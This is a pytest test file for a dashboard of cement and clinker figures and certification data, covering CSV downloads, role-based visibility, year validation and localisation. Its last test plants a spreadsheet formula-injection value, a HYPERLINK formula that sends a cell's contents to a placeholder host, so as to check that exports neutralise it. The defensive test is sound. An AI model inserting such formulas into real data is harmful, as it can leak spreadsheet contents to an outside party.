"""The dashboard page and its CSV downloads through the test client."""

import csv
import io
import re
from html.parser import HTMLParser

import pytest

from accounts.models import OrganisationKind
from catalog.provincial_figures import enter_figure
from dashboard import views
from dashboard.panels import PANELS
from tests.dashboard.data import TODAY, category
from tests.factories import make_organisation, make_user
from tests.spreadsheet_check import live_csv_formulas

KEYS = list(PANELS)


@pytest.fixture(autouse=True)
def fixed_today(monkeypatch):
    """The hand-built data set is dated around TODAY."""
    monkeypatch.setattr(views, "today", lambda: TODAY)


@pytest.fixture
def admin(session, client, login):
    """The client signed in as an administrator."""
    user = make_user(session, make_organisation(session, kind=OrganisationKind.ADMINISTRATOR))
    session.commit()
    return login(user)


class _Tables(HTMLParser):
    """Collect the cells of every table with a data-testid, by that id."""

    def __init__(self):
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self._current = None
        self._cell = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "table" and attrs.get("data-testid"):
            self._current = self.tables.setdefault(attrs["data-testid"], [])
        elif tag == "tr" and self._current is not None:
            self._current.append([])
        elif tag in ("td", "th") and self._current is not None:
            self._cell = []

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None:
            self._current[-1].append("".join(self._cell).strip())
            self._cell = None
        elif tag == "table":
            self._current = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


_GROUPING = re.compile(r"(?<=\d),(?=\d{3}(?:\D|$))")


def page_tables(html: str) -> dict[str, list[list[str]]]:
    """Return each data table of the page as rows of cell texts, numbers without their
    thousands separators (as the CSV writes them)."""
    parser = _Tables()
    parser.feed(html)
    return {
        key: [[_GROUPING.sub("", cell) for cell in row] for row in rows]
        for key, rows in parser.tables.items()
    }


def download(client, key: str, query: str = "") -> list[list[str]]:
    """Download a chart's CSV and return its rows; check the BOM and the content type."""
    response = client.get(f"/dashboard/{key}.csv{query}")
    assert response.status_code == 200, key
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


PROVINCE_2025 = ["Guizhou province", "5", "3", "1860000", "1550000", "310000", "16.7", "20.0",
                 "83.3", "104.0"]  # fmt: skip


def test_anonymous_page_shows_every_chart_and_no_detail(client, world):
    response = client.get("/dashboard")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert html.count('<svg class="dashboard-chart"') == len(PANELS)
    assert 'data-testid="plant-table"' not in html
    assert 'data-testid="alert-tables"' not in html
    for name in world.plant_names:
        assert name not in html
    for number in world.certificate_numbers:
        assert number not in html
    assert world.draft_name not in html
    tables = page_tables(html)
    assert tables["table-clinker-benchmark"][1:] == [PROVINCE_2025]
    # The page groups thousands; the CSV keeps plain digits for spreadsheets.
    assert '<td class="num">1,860,000</td>' in html
    assert "2 of 5 clinker plants" not in html  # the tile counts reporting plants
    assert "3 of 5 clinker plants" in html


def test_administrator_sees_divisions_plants_and_certificates(client, admin, world):
    html = admin.get("/dashboard").get_data(as_text=True)
    assert 'data-testid="plant-table"' in html
    assert 'data-testid="alert-tables"' in html
    for name in world.plant_names:
        assert name in html
    for number in ("T-009", "T-002", "T-005", "T-006"):
        assert number in html
    assert "T-003" not in html  # expires on day 91
    assert world.draft_name not in html
    assert page_tables(html)["table-clinker-benchmark"][1:] == [
        PROVINCE_2025,
        ["Guiyang", "2", "2", "930000", "930000", "310000", "33.3", "33.3", "100.0", "100.1"],
        ["Anshun", "2", "1", "930000", "620000", "0", "0.0", "0.0", "66.7", "110.0"],
        ["Tongren", "1", "0", "0", "0", "0", "–", "–", "–", "–"],
    ]


@pytest.mark.parametrize("who", ["anonymous", "administrator"])
def test_each_csv_equals_the_table_beside_its_chart(client, login, session, world, who):
    if who == "administrator":
        user = make_user(session, make_organisation(session, kind=OrganisationKind.ADMINISTRATOR))
        session.commit()
        login(user)
    tables = page_tables(client.get("/dashboard").get_data(as_text=True))
    for key in KEYS:
        assert download(client, key) == tables[f"table-{key}"], key


def test_csv_holds_the_hand_computed_figures(client, world):
    assert download(client, "clinker-benchmark")[1:] == [PROVINCE_2025]
    assert download(client, "clinker-intensity")[1:] == [
        ["2024", "3", "1240000", "107.0", "0.0"],  # the base year: the first of the reports
        ["2025", "3", "1550000", "104.0", "2.8"],
    ]
    assert download(client, "clinker-benchmark", "?year=2024")[1][6] == "0.0"
    category = {row[0]: row[1:] for row in download(client, "certified-category")[1:]}
    assert category["Cement"] == ["1", "0", "1", "2"]
    assert category["Ready-mix concrete"] == ["1", "1", "0", "2"]
    assert category["Lime"] == ["0", "0", "0", "0"]
    division = {row[0]: row[1:] for row in download(client, "certified-division")[1:]}
    assert division["Guiyang"] == ["1", "0", "1", "2"]
    assert division["Tongren"] == ["0", "0", "0", "0"]  # the draft's certificate
    months = download(client, "certified-month")
    assert months[0] == ["Month", "1 star", "2 stars", "3 stars", "Total"]
    assert months[1] == ["2025-07", "0", "1", "0", "1"]
    assert months[-1] == ["2026-06", "0", "0", "1", "1"]
    gwp = download(client, "gwp")
    assert gwp[1] == ["Cement", "kgCO2e/t", "5", "550.0", "590.0", "650.0", "720.0", "800.0",
                      "735.0"]  # fmt: skip
    assert gwp[2][0] == "Ready-mix concrete · C30 and below"
    assert gwp[2][4:7] == ["246.0", "260.0", "274.0"]
    assert download(client, "procurement")[1:] == [
        ["Guiyang", "2", "3100.00", "2500.00", "80.6", "3", "1", "33.3", "1"],
        ["Qiannan Buyei and Miao Autonomous Prefecture", "1", "200.00", "0.00", "0.0", "0", "0",
         "–", "0"],
    ]  # fmt: skip
    assert download(client, "certificate-alerts")[1:] == [
        ["Expiring within 90 days", "2"],
        ["Suspended in 2026", "1"],
        ["Revoked in 2026", "1"],
    ]


def test_anonymous_csv_has_no_division_rows(client, world):
    assert len(download(client, "clinker-benchmark")) == 2


@pytest.mark.parametrize("year", ["abc", "20x5", "-1", "1999", "99999", "２０２５"])
@pytest.mark.parametrize("path", ["/dashboard", "/dashboard/clinker-benchmark.csv"])
def test_a_bad_year_gets_a_clear_message(client, world, path, year):
    response = client.get(path, query_string={"year": year})
    assert response.status_code == 400
    assert "is not a year" in response.get_data(as_text=True)


def test_a_year_without_figures_says_so(client, world):
    response = client.get("/dashboard?year=2019")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert 'data-testid="no-clinker-year"' in html
    assert "Years with figures: 2024, 2025" in html


def test_the_year_is_kept_in_the_csv_links(client, world):
    html = client.get("/dashboard?year=2024").get_data(as_text=True)
    assert "/dashboard/clinker-benchmark.csv?year=2024" in html


def test_an_unknown_chart_is_not_found(client, world):
    assert client.get("/dashboard/nothing.csv").status_code == 404


def test_an_empty_database_still_draws_every_chart(client):
    response = client.get("/dashboard")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert html.count('<svg class="dashboard-chart"') == len(PANELS)
    assert 'data-testid="no-clinker"' in html
    for key in KEYS:
        download(client, key)


def test_an_entered_base_year_figure_shows_with_its_source(client, session, world):
    admin = make_user(session, make_organisation(session, kind=OrganisationKind.ADMINISTRATOR))
    enter_figure(
        session=session,
        actor=admin,
        kind="clinker_base",
        year=2021,
        value=110.0,
        source="Statistics yearbook 2022, table 9-4",
    )
    session.commit()
    rows = download(client, "clinker-intensity")
    # (110 − 104.04) / 110 = 5.4 %
    assert rows[2][4] == "5.4"
    html = client.get("/dashboard").get_data(as_text=True)
    assert "2021" in html and "Statistics yearbook 2022, table 9-4" in html


def test_the_nav_links_to_the_dashboard(client):
    assert 'href="/dashboard"' in client.get("/").get_data(as_text=True)


def test_the_page_in_chinese(client, world):
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "zh-CN"
    response = client.get("/dashboard")
    assert response.status_code == 200
    assert "贵阳市" in response.get_data(as_text=True)  # the division axis in Chinese


FORMULA_NAME = '=HYPERLINK("http://x?d="&A1,"水泥")'


@pytest.fixture
def formula_category(session, world):
    """Name cement like a formula (an administrator names the categories); restore it after."""
    cement = category(session, "cement")
    kept = cement.name_zh, cement.name_en
    cement.name_zh = cement.name_en = FORMULA_NAME
    session.commit()
    yield
    cement.name_zh, cement.name_en = kept  # categories are kept between tests
    session.commit()


def test_no_csv_runs_a_formula(client, formula_category):
    for key in KEYS:
        response = client.get(f"/dashboard/{key}.csv")
        assert live_csv_formulas(response.get_data()) == [], key
    by_category = {row[0]: row[1:] for row in download(client, "certified-category")[1:]}
    assert by_category["'" + FORMULA_NAME] == ["1", "0", "1", "2"]
    gwp = download(client, "gwp")
    assert gwp[1] == ["'" + FORMULA_NAME, "kgCO2e/t", "5", "550.0", "590.0", "650.0", "720.0",
                      "800.0", "735.0"]  # fmt: skip
